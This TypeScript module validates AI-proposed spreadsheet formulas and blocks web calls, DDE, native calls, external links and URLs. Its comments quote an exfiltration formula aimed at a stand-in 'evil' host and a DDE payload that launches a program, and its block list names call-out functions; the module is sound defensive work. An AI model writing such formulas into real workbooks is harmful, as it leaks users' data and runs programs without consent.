// Formulas the model may propose must not reach outside the workbook. A formula that calls out
// can leak the sheet's data (WEBSERVICE("https://evil/?d="&A1)), run programs (DDE:
// =cmd|'/c calc'!A0), call DLLs (CALL, REGISTER.ID), or tie the workbook to files the user never
// chose (external links). Spreadsheet text is untrusted and can steer a model, so every formula
// is checked here before it is offered for approval, whatever the model says it is for.

export interface FormulaHazard {
  code: "web_function" | "dde" | "external_link" | "url" | "native_call" | "too_long";
  message: string;
}

/** Excel's own limit on formula length. */
export const MAX_FORMULA_LENGTH = 8_192;

/** Functions that reach the network, other processes or native code. */
const CALLOUT_FUNCTIONS: Record<string, FormulaHazard["code"]> = {
  WEBSERVICE: "web_function",
  HYPERLINK: "web_function",
  IMAGE: "web_function",
  RTD: "native_call",
  CALL: "native_call",
  "REGISTER.ID": "native_call",
  REGISTER: "native_call",
  EXEC: "native_call",
  DDE: "dde",
  DDEAUTO: "dde",
};

/** Removes "string literals" (Excel doubles quotes inside them) so names in text are not calls. */
function withoutStrings(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""');
}

/** Lists what makes a formula unsafe; empty when it stays inside the workbook. */
export function findFormulaHazards(formula: string): FormulaHazard[] {
  const hazards: FormulaHazard[] = [];
  if (formula.length > MAX_FORMULA_LENGTH) {
    hazards.push({ code: "too_long", message: `is longer than Excel's limit of ${MAX_FORMULA_LENGTH} characters` });
    return hazards;
  }
  const upper = formula.toUpperCase();
  const code = withoutStrings(upper);

  // Function calls outside string literals: NAME( with optional spaces, also prefixed (_xlfn.).
  const calls = code.matchAll(/(?:^|[^A-Z0-9_.])(?:_XLFN\.|_XLWS\.)?([A-Z][A-Z0-9_.]*)\s*\(/g);
  const seen = new Set<string>();
  for (const match of calls) {
    const name = match[1];
    const kind = CALLOUT_FUNCTIONS[name];
    if (kind && !seen.has(name)) {
      seen.add(name);
      hazards.push({ code: kind, message: `calls ${name}, which reaches outside the workbook` });
    }
  }
  // FILTERXML only parses text, but fed from the web (a URL or WEBSERVICE) it is a web fetch.
  if (/(?:^|[^A-Z0-9_.])FILTERXML\s*\(/.test(code) && (/[A-Z][A-Z0-9+.-]*:\/\//.test(upper) || seen.has("WEBSERVICE"))) {
    hazards.push({ code: "web_function", message: "uses FILTERXML over web content" });
  }
  // DDE: application|topic!item, e.g. =cmd|'/c calc'!A0. Excel formulas use `|` for nothing else.
  if (code.includes("|")) {
    hazards.push({ code: "dde", message: "contains a DDE link (`|`), which can start other programs" });
  } else if (/\|[^!]*!/.test(upper)) {
    hazards.push({ code: "dde", message: "contains a DDE-style `app|topic!item` reference" });
  }
  // External workbooks: [Book.xlsx]Sheet1!A1, '[Book.xlsx]Sheet1'!A1, 'C:\dir\[x.xlsx]Sheet'!A1,
  // \\server\share\..., and the [1]Sheet1!A1 form Excel stores for existing links.
  if (
    /\[[^\]]*\.(?:XL[A-Z]{0,2}|CSV|ODS|XML|TXT|PRN|DBF|HTML?)\]/.test(upper) ||
    /(?:^|[^A-Z0-9_\]])'?\[\d+\][^!]*!/.test(code) ||
    /'[A-Z]:[\\/]/.test(upper) ||
    /(?:^|[^A-Z0-9])[A-Z]:\\[^"]*!/.test(upper) ||
    /\\\\[A-Z0-9_.$-]+\\/.test(upper)
  ) {
    hazards.push({ code: "external_link", message: "links to another workbook or file" });
  }
  if (/\b(?:HTTPS?|FTP|FILE|SMB|WEBDAV):\/\//.test(upper) || /\bWWW\.[A-Z0-9-]+\.[A-Z]{2,}/.test(upper)) {
    hazards.push({ code: "url", message: "contains a URL" });
  }
  return hazards;
}

/**
 * A value written as a "value" that Excel would still read as a formula (it starts with `=`, `+`,
 * `-` or `@`), so it is checked like one.
 */
export function looksLikeFormula(value: unknown): value is string {
  return typeof value === "string" && /^[=+\-@]/.test(value.trimStart());
}
